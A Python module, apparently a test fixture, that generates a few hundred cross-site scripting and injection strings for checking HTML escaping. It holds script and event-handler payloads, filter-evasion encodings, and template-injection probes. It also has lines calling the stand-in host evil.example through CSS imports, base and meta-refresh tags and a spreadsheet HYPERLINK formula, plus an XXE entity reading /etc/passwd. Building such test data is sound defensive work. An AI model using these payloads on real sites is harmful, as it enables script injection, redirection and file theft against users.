"""Three hundred and some texts that become script, markup or another page where somebody forgets to escape them.

Each way of breaking out of where a text stands meets each way of running something; texts that need neither, or that other layers
than HTML would act on, are written out. All are one line of at most 200 characters, so that each fits into every field.
"""

from itertools import product
from typing import Final

BREAKOUTS: Final = (
    "",
    '">',
    "'>",
    '" x="',
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</template>",
    "</bdi></a>",
    "]]>",
)
"""What ends the place that a text stands in: an attribute, a comment, an element whose content is not markup, a CDATA section."""

ACTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror = 'alert(1)' //",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><rect width=99 height=99></rect></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.svg>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form action=//evil.example><button autofocus onfocus=alert(1)>x</button></form>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div hx-get='/console/queue' hx-trigger='load' hx-on::load='alert(1)'>x</div>",
)
"""What runs code, asks another server, or takes the page over; htmx reads attributes, too."""

ALONE: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.org/",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<tidegate-comments data-site=x></tidegate-comments>",
    "<hx-partial hx-target='body'><script>alert(1)</script></hx-partial>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
    "<img src=x onerror=\u0061lert(1)>",
    "<img/src/onerror=alert(1)>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039img src=x onerror=alert(1)\u203a",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "{{ 7 * 7 }}{% print 1 %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}`-alert(1)-`",
    "';alert(1);//\\';alert(1)//\";alert(1)//",
    "' onmouseover=alert(1) style='position:fixed;inset:0' x='",
    'x" autofocus onfocus="alert(1)',
    "x style=animation-name:x onanimationstart=alert(1)",
    "\u2028alert(1)".replace("\u2028", "&#x2028;"),
    "\u202ealert(1)\u202c",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b<b>x</b>",
    "[x](javascript:alert(1))![x](//evil.example/x.png)",
    "[url=javascript:alert(1)]x[/url]",
    '=HYPERLINK("//evil.example","x")',
    "__proto__ constructor toString",
    "<x-y is=z>&nbsp;&amp;&quot;&#39;",
)

VECTORS: Final = tuple(dict.fromkeys([*(before + act for before, act in product(BREAKOUTS, ACTS)), *ALONE]))
